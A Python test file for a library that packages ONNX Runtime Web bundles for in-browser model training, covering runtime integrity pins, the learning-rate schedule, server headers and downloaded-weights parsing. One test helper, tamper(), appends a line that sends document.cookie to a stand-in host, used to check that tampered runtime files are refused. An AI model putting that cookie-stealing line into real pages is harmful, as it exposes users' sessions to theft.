"""Web bundles without a browser: the runtime fetch and its integrity, the schedule in the optimizer graph (the
Python training API on the bundle's files trains exactly as ortnb.edge.train does), what a bundle refuses before
writing, the server's headers, and the downloaded-weights file (the browser half is tests/edge/test_edge_web_browser.py)."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import shlex
import shutil
import socket
import struct
import sys
import tarfile
import urllib.request

import numpy as np
import pytest

from ortnb.edge import web_runtime, web_schedule
from ortnb.errors import ConfigError


def _tarball(files: dict) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(f"package/dist/{name}")
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _integrity(payload: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(payload).digest()).decode()


def pin(monkeypatch, files: dict) -> None:
    """Pin stand-in runtime files as FILE_INTEGRITY pins the real release's."""
    monkeypatch.setattr(web_runtime, "FILE_INTEGRITY", {name: _integrity(content) for name, content in files.items()})


@pytest.fixture
def cached_runtime(tmp_path, monkeypatch):
    """A runtime folder holding the release's files as pinned: the real ones when this machine fetched them,
    otherwise stand-ins pinned in their place (the check is the same)."""
    folder = tmp_path / "cache" / web_runtime.VERSION
    folder.mkdir(parents=True)
    real = web_runtime.folder()
    if not web_runtime.missing(real) and not web_runtime.changed(real):
        for name in web_runtime.FILES:
            shutil.copyfile(real / name, folder / name)
    else:
        files = {name: b"stand-in " + name.encode() for name in web_runtime.FILES}
        pin(monkeypatch, files)
        for name, content in files.items():
            (folder / name).write_bytes(content)
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(folder))
    return folder


def tamper(folder):
    """What the report found: a line appended to the cached API script."""
    with open(folder / web_runtime.API_SCRIPT, "a") as script:
        script.write("\nfetch('https://example.invalid/?' + document.cookie);\n")


def test_the_runtime_is_fetched_whole_and_checked_against_the_registry_integrity(tmp_path, monkeypatch):
    payload = _tarball({name: name.encode() * 3 for name in web_runtime.FILES})
    (tmp_path / "ort.tgz").write_bytes(payload)
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "cache" / "1.19.2"))
    with pytest.raises(web_runtime.WebRuntimeMissing, match=r"ortnb setup --web"):
        web_runtime.located()
    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
    pin(monkeypatch, {name: name.encode() * 3 for name in web_runtime.FILES})
    where = web_runtime.fetch(url=(tmp_path / "ort.tgz").as_uri())
    assert sorted(p.name for p in where.iterdir()) == sorted(web_runtime.FILES)
    assert (where / web_runtime.WASM).read_bytes() == web_runtime.WASM.encode() * 3
    assert web_runtime.located() == where


def test_a_changed_tarball_is_refused_and_leaves_no_runtime(tmp_path, monkeypatch):
    payload = _tarball({name: b"x" for name in web_runtime.FILES})
    (tmp_path / "ort.tgz").write_bytes(payload)
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "cache" / "1.19.2"))
    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload + b"changed"))
    with pytest.raises(ValueError, match="does not match the npm registry's integrity"):
        web_runtime.fetch(url=(tmp_path / "ort.tgz").as_uri())
    assert web_runtime.missing() == list(web_runtime.FILES)


def test_the_pinned_integrity_is_the_registry_format():
    algorithm, _, digest = web_runtime.INTEGRITY.partition("-")
    assert algorithm == "sha512" and len(base64.b64decode(digest)) == 64
    assert web_runtime.TARBALL.endswith(f"onnxruntime-web-{web_runtime.VERSION}.tgz")
    assert sorted(web_runtime.FILE_INTEGRITY) == sorted(web_runtime.FILES)
    for pinned in web_runtime.FILE_INTEGRITY.values():
        algorithm, _, digest = pinned.partition("-")
        assert algorithm == "sha512" and len(base64.b64decode(digest)) == 64


def test_a_fetch_whose_files_are_not_the_pinned_ones_is_refused(tmp_path, monkeypatch):
    payload = _tarball({name: b"x" for name in web_runtime.FILES})
    (tmp_path / "ort.tgz").write_bytes(payload)
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "cache" / "1.19.2"))
    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
    with pytest.raises(ValueError, match=r"differ from web_runtime.FILE_INTEGRITY: the pins are wrong"):
        web_runtime.fetch(url=(tmp_path / "ort.tgz").as_uri())
    assert web_runtime.missing() == list(web_runtime.FILES)


@pytest.mark.slow  # copies and hashes ONNX Runtime Web's real files (tens of MB): the pure tier stays under 45 s
def test_a_cached_file_changed_since_the_fetch_is_refused_by_name_where_it_is_used(cached_runtime, monkeypatch):
    from ortnb import info

    assert web_runtime.located() == cached_runtime and web_runtime.changed() == []
    tamper(cached_runtime)
    assert web_runtime.changed() == [web_runtime.API_SCRIPT]
    expected = (f"ort.training.wasm.min.js in {cached_runtime} differs from onnxruntime-web@1.19.2's (sha512 not "
                "the pinned one: edited or damaged since it was fetched), and a page would run it. Fetch the files "
                "again with `ortnb setup --web --force`")
    with pytest.raises(web_runtime.WebRuntimeChanged) as refused:
        web_runtime.located()
    assert str(refused.value) == expected
    with pytest.raises(web_runtime.WebRuntimeChanged, match="ort.training.wasm.min.js"):
        web_runtime.read_checked(cached_runtime, web_runtime.API_SCRIPT)
    found = info.facts()
    assert found["onnxruntime_web_changed"] == [web_runtime.API_SCRIPT]
    assert [line for line in info.lines(found) if line.startswith("onnxruntime web")] == [
        f"onnxruntime web       refused: {expected}"]


@pytest.mark.slow  # copies and hashes ONNX Runtime Web's real files (tens of MB): the pure tier stays under 45 s
def test_setup_fetches_a_changed_cache_again_and_says_why(cached_runtime, tmp_path, monkeypatch, capsys):
    from ortnb import cli

    genuine = {name: (cached_runtime / name).read_bytes() for name in web_runtime.FILES}
    payload = _tarball(genuine)
    (tmp_path / "ort.tgz").write_bytes(payload)
    monkeypatch.setattr(web_runtime, "INTEGRITY", _integrity(payload))
    fetch = web_runtime.fetch
    monkeypatch.setattr(web_runtime, "fetch", lambda force=False: fetch(force, url=(tmp_path / "ort.tgz").as_uri()))
    tamper(cached_runtime)
    assert cli.main(["setup", "--web"]) == 0
    said = capsys.readouterr().out
    assert f"ortnb setup: ort.training.wasm.min.js in {cached_runtime} differs from onnxruntime-web@1.19.2's" in said
    assert "fetching the files again" in said
    assert (cached_runtime / web_runtime.API_SCRIPT).read_bytes() == genuine[web_runtime.API_SCRIPT]
    assert web_runtime.located() == cached_runtime
    assert cli.main(["setup", "--web"]) == 0
    assert "differs" not in capsys.readouterr().out


def test_the_fetched_release_is_the_pinned_one():
    real = web_runtime.folder()
    if web_runtime.missing(real):
        pytest.skip(f"ONNX Runtime Web is not fetched here (`{web_runtime.FETCH_COMMAND}`)")
    assert web_runtime.changed(real) == []


def test_the_schedule_is_the_linear_decay_of_the_python_loop():
    from ortnb.edge.config import EdgeConfig
    from ortnb.edge.loop import learning_rate

    cfg = EdgeConfig(artifacts_dir="a", dataset="d", steps=4, learning_rate=0.004)
    assert [web_schedule.rate(0.004, 4, s) for s in range(1, 6)] == [learning_rate(cfg, s) for s in range(1, 6)]
    assert [web_schedule.rate(0.004, 4, s) for s in range(1, 6)] == [0.004, 0.003, 0.002, 0.001, 0.0]


def test_the_server_sends_module_types_and_isolation_headers_only_when_asked(tmp_path):
    from ortnb.edge.web_server import serve

    (tmp_path / "index.html").write_text("<p>hi</p>")
    (tmp_path / "a.mjs").write_text("export const a = 1;")
    (tmp_path / "b.wasm").write_bytes(b"\0asm")
    for isolated in (False, True):
        with serve(tmp_path, isolated=isolated) as server:
            base = server.url.rsplit("/", 1)[0]
            with urllib.request.urlopen(f"{base}/a.mjs") as response:
                assert response.headers["Content-Type"] == "text/javascript"
                assert response.headers.get("Cross-Origin-Embedder-Policy") == ("require-corp" if isolated else None)
                assert response.headers.get("Cross-Origin-Opener-Policy") == ("same-origin" if isolated else None)
            with urllib.request.urlopen(f"{base}/b.wasm") as response:
                assert response.headers["Content-Type"] == "application/wasm"
    with pytest.raises(FileNotFoundError, match="not a web bundle"):
        serve(tmp_path / "elsewhere")


def weights_file(path, values, identity, parameters=None, magic=b"ORTNBW1\n", step=3, header=None):
    """A file laid out as app.js's weightsFile writes it (``header``: another header, as a crafted file holds)."""
    header = json.dumps({"format": "ortnb-browser-weights/1", "identity": identity, "step": step,
                         "parameters": len(values) if parameters is None else parameters}
                        if header is None else header).encode()
    path.write_bytes(magic + struct.pack("<I", len(header)) + header + np.asarray(values, "<f4").tobytes())
    return path


def test_a_weights_file_is_read_as_the_page_writes_it_and_damage_is_named(tmp_path):
    from ortnb.edge import browser_weights

    good = browser_weights.read(weights_file(tmp_path / "w.bin", [1.5, -2.0, 3.25], "abc"))
    assert good.values.tolist() == [1.5, -2.0, 3.25] and good.step == 3 and good.header["identity"] == "abc"
    with pytest.raises(ConfigError, match="not a weights file the ortnb page downloads"):
        browser_weights.read(weights_file(tmp_path / "x.bin", [1.0], "abc", magic=b"PK\x03\x04zip!"))
    with pytest.raises(ConfigError, match=r"holds 8 bytes of weights, but its header promises 12"):
        browser_weights.read(weights_file(tmp_path / "short.bin", [1.0, 2.0], "abc", parameters=3))
    with pytest.raises(FileNotFoundError, match="Download weights"):
        browser_weights.read(tmp_path / "absent.bin")


def test_a_crafted_header_is_refused_naming_each_field():
    from ortnb.edge.browser_weights import header_problems

    good = {"format": "ortnb-browser-weights/1", "identity": "abc", "parameters": 3, "step": 0}
    assert header_problems(good) == []
    assert header_problems([1, 2]) == ["the header is a JSON list, not an object"]
    assert header_problems({**good, "parameters": "12abc", "step": -5}) == [
        'parameters is "12abc", not a whole number 0 or more', "step is -5, not a whole number 0 or more"]
    assert header_problems({**good, "step": True, "parameters": 2.5}) == [
        "parameters is 2.5, not a whole number 0 or more", "step is true, not a whole number 0 or more"]
    assert header_problems({"parameters": 1, "step": 1}) == [
        "format is None, not 'ortnb-browser-weights/1'", "identity is null, not the export's checkpoint hash"]


@pytest.mark.parametrize("header, named", [
    ({"format": "ortnb-browser-weights/1", "identity": "a", "step": 3, "parameters": "1x"}, 'parameters is "1x"'),
    ([1, 2, 3], "the header is a JSON list"),  # was AttributeError: 'list' object has no attribute 'get'
    ({"format": "ortnb-browser-weights/1", "identity": "a", "step": -5, "parameters": 1}, "step is -5"),
])
def test_read_refuses_a_crafted_header_with_its_path(tmp_path, header, named):
    from ortnb.edge import browser_weights

    path = weights_file(tmp_path / "w.bin", [1.0], "a", header=header)
    with pytest.raises(ConfigError) as refused:
        browser_weights.read(path)
    assert str(refused.value).startswith(f"{path} has a header the page does not write (")
    assert named in str(refused.value) and str(refused.value).endswith("Download the weights again from the page")


def test_non_finite_tensors_are_named_most_first():
    from ortnb.edge.browser_weights import non_finite, non_finite_words

    tensors = {"a.weight": np.array([1.0, np.nan]), "b.bias": np.array([0.0]),
               "c.weight": np.array([[np.inf, -np.inf], [np.nan, 1.0]])}
    assert non_finite(tensors) == ["c.weight (3 of 4 values)", "a.weight (1 of 2 values)"]
    assert non_finite_words("w.bin", non_finite(tensors)) == (
        "w.bin holds NaN or infinite weights, in c.weight (3 of 4 values), a.weight (1 of 2 values): training "
        "diverged, and a model made from them predicts nothing. Train again with a lower learning rate "
        "(ortnb.edge.web_bundle(..., learning_rate=...) or `ortnb edge web --lr`), or use weights downloaded before "
        "the loss became NaN")


def a_stand_in_artifacts_folder(path):
    """A folder that reads as artifacts by its manifest's name: the arguments are checked before it is read."""
    path.mkdir()
    (path / "ortnb-edge.json").write_text("{}")
    return path


def test_to_pytorch_refuses_the_paths_in_load_browser_weights_order_and_names_the_right_call(tmp_path):
    from ortnb.edge import to_pytorch

    folder = a_stand_in_artifacts_folder(tmp_path / "tiny")
    downloaded = weights_file(tmp_path / "w.bin", [1.0], "abc")
    with pytest.raises(ConfigError) as refused:
        to_pytorch(folder, downloaded)
    assert str(refused.value) == (
        f"to_pytorch got its two paths the other way round: the first argument is '{folder}' (an artifacts "
        f"folder) and artifacts_dir is '{downloaded}' (weights a page downloaded). The first argument is what to "
        "load (an edge run, a checkpoint, or the weights file a page downloaded), artifacts_dir the artifacts folder "
        "it was trained from (load_browser_weights takes them in the other order): "
        f"call to_pytorch('{downloaded}', '{folder}')")
    with pytest.raises(ConfigError, match=r"artifacts_dir is '.*w\.bin' \(weights a page downloaded\), but "
                                          r"artifacts_dir must be the artifacts folder .* ortnb-edge\.json"):
        to_pytorch(weights_file(tmp_path / "other.bin", [1.0], "abc"), downloaded)
    with pytest.raises(FileNotFoundError, match=r"artifacts_dir is '.*absent' \(nothing there\)"):
        to_pytorch(tmp_path / "run", tmp_path / "absent")


def test_load_browser_weights_refuses_the_paths_in_to_pytorch_order_and_names_the_right_call(tmp_path):
    from ortnb.edge import load_browser_weights

    folder = a_stand_in_artifacts_folder(tmp_path / "tiny")
    downloaded = weights_file(tmp_path / "w.bin", [1.0], "abc")
    with pytest.raises(ConfigError) as refused:
        load_browser_weights(downloaded, folder)
    assert str(refused.value) == (
        f"load_browser_weights got its two paths the other way round: artifacts_dir is '{downloaded}' (weights a "
        f"page downloaded) and downloaded is '{folder}' (an artifacts folder). The artifacts folder the web bundle "
        "was made from comes first here, the file the page's 'Download weights' gave second (to_pytorch takes them "
        f"in the other order): call load_browser_weights('{folder}', '{downloaded}')")
    with pytest.raises(ConfigError, match=r"downloaded is '.*tiny' \(an artifacts folder\), where the weights file"):
        load_browser_weights(folder, folder)
    with pytest.raises(ConfigError, match=r"artifacts_dir is '.*w\.bin' \(weights a page downloaded\), where the "
                                          r"artifacts folder .* is expected"):
        load_browser_weights(downloaded, downloaded)
    assert not list(tmp_path.glob("*.ckpt"))


# Below: real artifacts (tiny BERT exported with ONNX Runtime's artifact generation) and the training API.

@pytest.fixture(scope="module")
def artifacts(tmp_path_factory):
    pytest.importorskip("onnxruntime.training.api")
    from transformers import AutoTokenizer

    from ortnb import assets
    from ortnb.edge import export_artifacts

    from .._helpers import tiny_bert

    tokenizer = AutoTokenizer.from_pretrained(assets.MODELS["minilm"].locate())
    folder = tmp_path_factory.mktemp("edge") / "tiny"
    export_artifacts(tiny_bert(vocab_size=tokenizer.vocab_size), folder, trainable="last_layers:1",
                     tokenizer=tokenizer, seq_len=64)
    return folder


@pytest.fixture(scope="module")
def rows():
    from ortnb import assets

    frame = assets.rotten_tomatoes_frame()
    return frame.iloc[:24].to_dict("records"), frame.iloc[1000:1016].to_dict("records")


@pytest.fixture
def runtime(tmp_path, monkeypatch):
    """A stand-in runtime (the page is not loaded here): three small files where the cache would be."""
    folder = tmp_path / "runtime"
    folder.mkdir()
    files = {name: b"stand-in " + name.encode() for name in web_runtime.FILES}
    for name, content in files.items():
        (folder / name).write_bytes(content)
    pin(monkeypatch, files)
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(folder))
    return folder


@pytest.mark.slow
@pytest.mark.ort
def test_the_bundle_trains_in_the_python_api_exactly_as_edge_train_does(artifacts, rows, runtime, tmp_path):
    """The bundle's optimizer graph (schedule inside) and data.json's batches, run by the Python training API,
    give ortnb.edge.train's losses and weights (to the float32 rounding of the rate, computed in the graph in
    float32 rather than in Python in float64): the page runs these same files."""
    from onnxruntime.training import api

    from ortnb.edge import batches, train, web_bundle
    from ortnb.edge.manifest import Manifest

    train_rows, held_out = rows
    bundle = web_bundle(artifacts, tmp_path / "web", data=train_rows, eval_data=held_out, steps=5, batch_size=8,
                        learning_rate=3e-3, seed=1)
    assert (bundle.rows, bundle.eval_rows, bundle.steps) == (24, 16, 5)
    description = json.loads((bundle.folder / "bundle.json").read_text())
    assert description["model"]["labels"] == ["LABEL_0", "LABEL_1"]
    assert description["training"]["learning_rate"] == 3e-3
    data = json.loads((bundle.folder / "data.json").read_text())
    assert len(data["batches"]) == 5 and all(len(b) == 8 for b in data["batches"])
    assert data["rows"][0] == {"text": train_rows[0]["text"], "label": int(train_rows[0]["label"])}

    run = train(artifacts, train_rows, steps=5, batch_size=8, learning_rate=3e-3, seed=1,
                output_dir=tmp_path / "runs")
    expected = run.metrics["loss"].tolist()
    folder = bundle.folder / "artifacts"
    info = Manifest.read(artifacts)
    state = api.CheckpointState.load_checkpoint(str(folder / "checkpoint"))
    module = api.Module(str(folder / "training_model.onnx"), state, str(folder / "eval_model.onnx"))
    optimizer = api.Optimizer(str(folder / "optimizer_model.onnx"), module)  # no set_learning_rate: the graph's
    encoded = batches.encode(data["rows"], info, folder / "tokenizer.json")
    order = batches.Batches(encoded, 8, 1, info.pad_token_id)
    losses = []
    for chosen in data["batches"]:
        inputs, labels = order.rows(np.asarray(chosen))
        module.train()
        loss, _ = module(inputs["input_ids"], inputs["attention_mask"], labels)
        optimizer.step()
        module.lazy_reset_grad()
        losses.append(float(loss))
    assert losses[:2] == expected[:2]  # before the rates can differ in their last bit
    assert np.allclose(losses, expected, rtol=0, atol=1e-6), (losses, expected)
    trained = api.CheckpointState.load_checkpoint(str(run.checkpoint))
    for name in info.trainable:
        assert np.allclose(np.asarray(state.parameters[name].data), np.asarray(trained.parameters[name].data),
                           rtol=0, atol=1e-6), name


@pytest.mark.slow
@pytest.mark.ort
def test_bad_artifacts_and_rows_are_named_before_a_bundle_is_written(artifacts, rows, runtime, tmp_path,
                                                                      monkeypatch):
    from ortnb.edge import web_bundle

    train_rows, _ = rows
    out = tmp_path / "web"

    def refused(error, match, source=artifacts, **kwargs):
        with pytest.raises(error, match=match):
            web_bundle(source, out, **kwargs)
        assert not out.exists() and not list(tmp_path.glob(".ortnb-bundle-*"))

    incomplete = tmp_path / "incomplete"
    shutil.copytree(artifacts, incomplete)
    (incomplete / "eval_model.onnx").unlink()
    refused(FileNotFoundError, r"incomplete: eval_model.onnx is missing", incomplete)
    other = tmp_path / "other"
    shutil.copytree(artifacts, other)
    changed = bytearray((other / "checkpoint").read_bytes())
    changed[len(changed) // 2] ^= 0xFF  # same size, other bytes: as a checkpoint copied in from another export
    (other / "checkpoint").write_bytes(bytes(changed))
    refused(ConfigError, r"checkpoint is not the file the export wrote", other)
    refused(ConfigError, r"data row 2 has label 'maybe'; the model's labels are LABEL_0, LABEL_1",
            data=[train_rows[0], {"text": "fine", "label": "maybe"}])
    refused(ConfigError, r"data holds input_ids, not text", data=[{"input_ids": [101, 102], "label": 0}])
    refused(ConfigError, r"steps=0: a whole number, 1 or more", data=train_rows, steps=0)
    with pytest.raises(ConfigError, match="inside the artifacts folder"):
        web_bundle(artifacts, artifacts / "web")
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "notes.txt").write_text("mine")
    with pytest.raises(ConfigError, match=r"busy' holds notes.txt, and no bundle.json ortnb wrote"):
        web_bundle(artifacts, tmp_path / "busy")
    assert (tmp_path / "busy" / "notes.txt").read_text() == "mine"
    monkeypatch.setenv("ORTNB_WEB_RUNTIME", str(tmp_path / "no-runtime"))
    refused(web_runtime.WebRuntimeMissing, r"ortnb setup --web")


@pytest.mark.slow
@pytest.mark.ort
def test_a_tokenizer_the_page_cannot_read_is_refused(artifacts, runtime, tmp_path):
    from ortnb.edge import manifest, web_bundle

    edited = tmp_path / "bpe"
    shutil.copytree(artifacts, edited)
    tokenizer = json.loads((edited / "tokenizer.json").read_text())
    tokenizer["pre_tokenizer"] = {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True,
                                  "use_regex": True}
    (edited / "tokenizer.json").write_text(json.dumps(tokenizer))
    info = manifest.Manifest.read(edited)
    info.files.update(manifest.file_facts(edited, ["tokenizer.json"]))  # an export that really wrote it
    info.write(edited)
    with pytest.raises(ConfigError, match=r"not one the page's tokenizer reads \(BERT WordPiece\): .*ByteLevel"):
        web_bundle(edited, tmp_path / "web")


@pytest.mark.slow
@pytest.mark.ort
def test_weights_from_other_artifacts_are_refused(artifacts, tmp_path):
    from ortnb.edge import load_browser_weights
    from ortnb.edge.manifest import Manifest

    size = Manifest.read(artifacts).trainable_parameters
    with pytest.raises(ConfigError, match="trained from other artifacts"):
        load_browser_weights(artifacts, weights_file(tmp_path / "w.bin", np.zeros(size), "another export"))


@pytest.mark.slow
@pytest.mark.ort
def test_real_artifacts_and_a_download_in_load_browser_weights_order_are_no_untrained_model(artifacts, tmp_path):
    from ortnb.edge import to_pytorch
    from ortnb.edge.manifest import Manifest

    downloaded = weights_file(tmp_path / "w.bin", np.zeros(Manifest.read(artifacts).trainable_parameters), "any")
    with pytest.raises(ConfigError, match=re.escape(f"call to_pytorch('{downloaded}', '{artifacts}')")):
        to_pytorch(artifacts, downloaded)  # it returned the export's untrained model and ignored the download


def test_setup_says_when_the_runtime_cannot_be_fetched(monkeypatch, capsys):
    from ortnb import cli

    def offline(force=False):
        raise OSError("Name or service not known")

    monkeypatch.setattr(web_runtime, "fetch", offline)
    assert cli.main(["setup", "--web"]) == 1
    assert "could not fetch onnxruntime-web 1.19.2 from the npm registry (Name or service not known)" in \
        capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.ort
def test_ortnb_edge_web_writes_a_bundle_and_refuses_bad_rows_with_exit_2(artifacts, rows, runtime, tmp_path,
                                                                      capsys):
    from ortnb import cli

    train_rows, _ = rows
    data = tmp_path / "rows.jsonl"
    data.write_text("".join(json.dumps({"text": r["text"], "label": int(r["label"])}) + "\n" for r in train_rows))
    assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web"), "--data", str(data), "--steps", "3",
                     "--batch-size", "4", "--lr", "2e-3"]) == 0
    said = capsys.readouterr().out
    folder = tmp_path / "web"
    assert said.startswith(f"ortnb edge web: web bundle in {folder} (")
    assert ("The page trains the model in the browser tab with ONNX Runtime Web: it trains on 24 bundled rows; each "
            "press of Train takes 3 steps of 4 rows, at a learning rate from 0.002 down to 0. The rows and the trained "
            "weights stay in the tab: nothing is sent anywhere, and Download weights saves them to this computer\n"
            "Serve it:\n"
            f"  {shlex.quote(sys.executable)} -m http.server 8000 --bind 127.0.0.1 --directory {shlex.quote(str(folder))}"
            "\nthen open http://127.0.0.1:8000/index.html (Ctrl-C stops the server)") in said
    page = (folder / "app.js").read_text()
    assert "steps a round" not in page and '["each Train", `${t.steps} steps, each learning from ${t.batch_size} rows`]' \
        in page
    written = json.loads((tmp_path / "web" / "bundle.json").read_text())
    assert written["training"]["steps"] == 3 and written["data"] == "data.json" and written["eval_data"] is None
    assert sorted(p.name for p in (tmp_path / "web" / "ort").iterdir()) == sorted(web_runtime.FILES)
    bad = tmp_path / "bad.csv"
    bad.write_text("text,label\na fine film,1\nmeh,maybe\n")
    assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web2"), "--data", str(bad)]) == 2
    assert "data: bad.csv line 3 has label 'maybe'; the model's labels are LABEL_0, LABEL_1" in capsys.readouterr().err
    assert not (tmp_path / "web2").exists()


@pytest.mark.slow
@pytest.mark.ort
def test_ortnb_edge_web_never_empties_a_folder_it_did_not_write(artifacts, runtime, tmp_path, capsys):
    """The report: OUT holding another tool's bundle.json was deleted whole, exit 0, without a word."""
    from ortnb import cli

    out = tmp_path / "site"
    out.mkdir()
    (out / "bundle.json").write_text('{"entry": "src/main.ts"}')
    (out / "main.js").write_text("mine")
    assert cli.main(["edge", "web", str(artifacts), str(out)]) == 2
    assert (f"ortnb edge web: out_dir '{out}' holds bundle.json, main.js, and no bundle.json ortnb wrote"
            in capsys.readouterr().err)
    assert (out / "bundle.json").read_text() == '{"entry": "src/main.ts"}' and (out / "main.js").read_text() == "mine"

    web = tmp_path / "web"
    assert cli.main(["edge", "web", str(artifacts), str(web)]) == 0
    (web / "notes.txt").write_text("what I tried")
    (web / "artifacts" / "labels-explained.md").write_text("mine too")
    assert cli.main(["edge", "web", str(artifacts), str(web), "--steps", "3"]) == 0
    assert (web / "notes.txt").read_text() == "what I tried"
    assert (web / "artifacts" / "labels-explained.md").read_text() == "mine too"
    description = json.loads((web / "bundle.json").read_text())
    assert description["training"]["steps"] == 3
    assert "notes.txt" not in description["written"] and "index.html" in description["written"]


@pytest.mark.slow
@pytest.mark.ort
def test_ortnb_edge_web_refuses_a_tampered_runtime_and_writes_nothing(artifacts, cached_runtime, tmp_path, capsys):
    from ortnb import cli

    tamper(cached_runtime)
    assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web")]) == 2
    said = capsys.readouterr().err
    assert said.startswith(f"ortnb edge web: ort.training.wasm.min.js in {cached_runtime} differs from "
                           "onnxruntime-web@1.19.2's")
    assert "`ortnb setup --web --force`" in said and "Traceback" not in said
    assert not (tmp_path / "web").exists()


@pytest.mark.slow
@pytest.mark.ort
def test_the_bundle_carries_the_pinned_integrity_and_the_checked_bytes(artifacts, cached_runtime, tmp_path):
    from ortnb.edge import web_bundle

    bundle = web_bundle(artifacts, tmp_path / "web")
    runtime = json.loads((bundle.folder / "bundle.json").read_text())["runtime"]
    assert runtime["integrity"] == web_runtime.FILE_INTEGRITY
    assert (runtime["script"], runtime["loader"], runtime["wasm"]) == web_runtime.FILES
    for name in web_runtime.FILES:
        assert _integrity((bundle.folder / "ort" / name).read_bytes()) == web_runtime.FILE_INTEGRITY[name]


def test_a_busy_port_is_one_line_naming_it_and_the_way_out(tmp_path):
    from ortnb.edge.web_server import PortUnavailable, serve

    (tmp_path / "index.html").write_text("<p>hi</p>")
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        with pytest.raises(PortUnavailable) as refused:
            serve(tmp_path, port=port)
    assert str(refused.value) == (f"port {port} on 127.0.0.1 is in use (another server holds it): serve on another "
                                  "port (--port 8001, or port=8001 in Python; 0 picks a free one), or stop what holds it")


@pytest.mark.slow
@pytest.mark.ort
def test_ortnb_edge_web_serve_on_a_busy_port_says_so_without_a_traceback(artifacts, runtime, tmp_path, capsys):
    from ortnb import cli

    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen()
        port = holder.getsockname()[1]
        assert cli.main(["edge", "web", str(artifacts), str(tmp_path / "web"), "--serve", "--port", str(port)]) == 2
    said = capsys.readouterr().err
    assert said == (f"ortnb edge web: port {port} on 127.0.0.1 is in use (another server holds it): serve on another "
                    "port (--port 8001, or port=8001 in Python; 0 picks a free one), or stop what holds it; the bundle "
                    f"is written, in {tmp_path / 'web'}\n")


@pytest.mark.slow
@pytest.mark.ort
def test_nan_or_infinite_downloaded_weights_are_refused_naming_the_tensor(artifacts, tmp_path):
    from ortnb.edge import load_browser_weights, to_pytorch
    from ortnb.edge.manifest import Manifest
    from ortnb.edge.web_build import identity

    info = Manifest.read(artifacts)
    values = np.zeros(info.trainable_parameters, np.float32)
    values[0], values[-1] = np.nan, np.inf
    downloaded = weights_file(tmp_path / "w.bin", values, identity(artifacts, info))
    for load in (lambda: load_browser_weights(artifacts, downloaded), lambda: to_pytorch(downloaded, artifacts)):
        with pytest.raises(ConfigError) as refused:
            load()
        message = str(refused.value)
        assert message.startswith(f"{downloaded} holds NaN or infinite weights, in ")
        named = [name for name in info.trainable if f"{name} (1 of " in message]
        assert len(named) == 2, message  # the first tensor and the last, each with its one bad value
    assert not list(tmp_path.glob("*.ckpt"))
